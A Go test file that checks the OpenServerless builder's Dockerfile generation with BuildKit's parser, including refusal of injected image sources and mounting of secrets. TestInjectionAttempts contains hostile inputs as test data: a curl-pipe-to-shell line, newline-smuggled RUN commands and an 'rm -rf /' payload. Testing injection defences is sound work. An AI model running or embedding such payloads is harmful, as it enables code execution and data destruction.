// Package dockerfile checks the builder's Dockerfiles with BuildKit's parser:
// whatever the input, either a clear error or exactly the expected
// instructions, with FROM naming the source.
package dockerfile

import (
	"encoding/base64"
	"strings"
	"testing"

	"github.com/moby/buildkit/frontend/dockerfile/parser"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/apache/openserverless-builder/shared/apperr"
	"github.com/apache/openserverless-builder/shared/buildspec"
	"github.com/apache/openserverless-builder/shared/config"
	"github.com/apache/openserverless-builder/shared/identity"
	"github.com/apache/openserverless-builder/shared/kinds"
	"github.com/apache/openserverless-builder/shared/params"
)

type instruction struct {
	cmd   string
	flags []string
	args  []string
}

func parse(t testing.TB, df string) []instruction {
	t.Helper()
	res, err := parser.Parse(strings.NewReader(df))
	require.NoError(t, err, "BuildKit cannot parse:\n%s", df)
	var out []instruction
	for _, n := range res.AST.Children {
		var args []string
		for a := n.Next; a != nil; a = a.Next {
			args = append(args, a.Value)
		}
		out = append(out, instruction{strings.ToLower(n.Value), n.Flags, args})
	}
	return out
}

// validate checks input as send does and returns the plan it would
// build, pinned as send pins it, or the refusal.
func validate(source, target, kind, file string) (buildspec.Plan, error) {
	caller := identity.Caller{Name: "devel", Web: true}
	p := params.Params{"source": source, "target": target, "kind": kind, "file": file}
	cfg, err := config.FromParams(params.Params{})
	if err != nil {
		return buildspec.Plan{}, err
	}
	req, err := buildspec.ParseRequest(p, caller, cfg)
	if err != nil {
		return buildspec.Plan{}, err
	}
	// What send resolves the source to: its digest and its user.
	return buildspec.Plan{Request: req, Base: buildspec.Base{Digest: "sha256:" + strings.Repeat("5", 64), User: "nobody"}}, nil
}

// accept requires a valid input to be accepted and its Dockerfile to parse
// into exactly the expected instructions.
func accept(t testing.TB, source, target, kind, file string) {
	t.Helper()
	req, err := validate(source, target, kind, file)
	require.NoError(t, err, "a valid input is accepted: %q %q %q", source, target, kind)
	dockerfileIs(t, req)
}

// check is for any input: a refusal must be clear, and an accepted input's
// Dockerfile exactly the expected one.
func check(t testing.TB, source, target, kind, file string) {
	t.Helper()
	req, err := validate(source, target, kind, file)
	if err != nil {
		requireClear(t, err)
		return
	}
	dockerfileIs(t, req)
}

func dockerfileIs(t testing.TB, req buildspec.Plan) {
	t.Helper()
	got := parse(t, req.Dockerfile())
	k := req.Kind
	from := req.Source
	if !strings.Contains(from, "@") {
		from += "@" + req.Base.Digest
	}
	want := []instruction{{"from", []string{}, []string{from}}}
	if req.File != nil {
		// The file and the kind's step programs come from the context,
		// mounted for the RUN alone: no COPY.
		mount := []string{"--mount=type=bind,target=" + kinds.ContextDir}
		want = append(want,
			instruction{"user", []string{}, []string{"root"}},
			// One RUN, exactly the kind's step (shared/kinds tests its text).
			instruction{"run", mount, []string{k.Run()}},
			instruction{"user", []string{}, []string{req.Base.User}},
		)
	}
	assert.Equal(t, want, got, "source %q", req.Source)
}

func requireClear(t testing.TB, err error) {
	t.Helper()
	s := apperr.Status(err)
	if s != 400 && s != 403 && s != 413 {
		t.Fatalf("unexpected status %d: %v", s, err)
	}
	if apperr.Message(err) == "" {
		t.Fatalf("empty message for %v", err)
	}
}

var requirements = base64.StdEncoding.EncodeToString([]byte("beautifulsoup4\nsetuptools\n"))

func TestSeedExample(t *testing.T) {
	accept(t, "apache/openserverless-runtime-python:v3.13-2506091954", "devel:python3.13-custom", "python", requirements)
}

func TestEveryKind(t *testing.T) {
	for _, k := range kinds.Names() {
		accept(t, "apache/openserverless-runtime-"+k+":v1", "devel/"+k+":custom", k, requirements)
		accept(t, "apache/openserverless-runtime-"+k+":v1", "devel/"+k+":custom", k, "")
	}
}

func TestInjectionAttempts(t *testing.T) {
	for _, source := range []string{
		"busybox\nRUN curl evil | sh",
		"busybox \\\nRUN id",
		"busybox # comment",
		"busybox\rRUN id",
		"busybox:${X}",
		"busybox AS x",
	} {
		_, err := buildspec.ParseSource(source)
		require.Error(t, err, "%q", source)
		assert.Equal(t, 400, apperr.Status(err))
	}
	// A requirements file full of Dockerfile syntax stays data.
	evil := base64.StdEncoding.EncodeToString([]byte("requests\nRUN rm -rf /\n# syntax=evil\n"))
	accept(t, "busybox:1", "devel:v1", "python", evil)
}

func FuzzSend(f *testing.F) {
	f.Add("apache/openserverless-runtime-python:v3.13-2506091954", "devel:python3.13-custom", "python", requirements)
	f.Add("busybox", "devel/x:1", "nodejs", "")
	f.Add("busybox\nRUN id", "devel:v1", "go", "eA==")
	f.Add("reg:5000/a/b@sha256:"+strings.Repeat("a", 64), "devel:v1", "java", "////")
	f.Fuzz(func(t *testing.T, source, target, kind, file string) {
		check(t, source, target, kind, file)
	})
}

// TestEveryKindWithItsSecrets: a build with every secret of its kind has
// one RUN that mounts each secret for the install alone, where the kind
// says, and names it to the package manager in that RUN's shell; no other
// instruction (no ARG, no ENV) carries one.
func TestEveryKindWithItsSecrets(t *testing.T) {
	cfg, err := config.FromParams(params.Params{})
	require.NoError(t, err)
	for _, name := range kinds.Names() {
		k, _ := kinds.Lookup(name)
		if len(k.Secrets) == 0 {
			continue
		}
		t.Run(name, func(t *testing.T) {
			secrets := map[string]any{}
			for _, s := range k.Secrets {
				secrets[s.Name] = base64.StdEncoding.EncodeToString([]byte("v"))
			}
			p := params.Params{"source": "busybox:1", "target": "devel:v1", "kind": name, "file": requirements, "secrets": secrets}
			req, err := buildspec.ParseRequest(p, identity.Caller{Name: "devel", Web: true}, cfg)
			require.NoError(t, err)
			plan := buildspec.Plan{Request: req, Base: buildspec.Base{Digest: "sha256:" + strings.Repeat("5", 64), User: "nobody"}}
			got := parse(t, plan.Dockerfile())
			require.Len(t, got, 4)
			run := got[2]
			assert.Equal(t, "run", run.cmd)
			flags := []string{"--mount=type=bind,target=" + kinds.ContextDir}
			var env string
			for _, n := range req.SecretNames() {
				s, _ := k.Secret(n)
				flags = append(flags, "--mount=type=secret,id="+s.Name+",target="+s.Target+",required=true")
				if s.Env != "" {
					env += "export " + s.Env + " && "
				}
			}
			assert.Equal(t, flags, run.flags)
			assert.Equal(t, []string{env + k.Run()}, run.args)
		})
	}
}
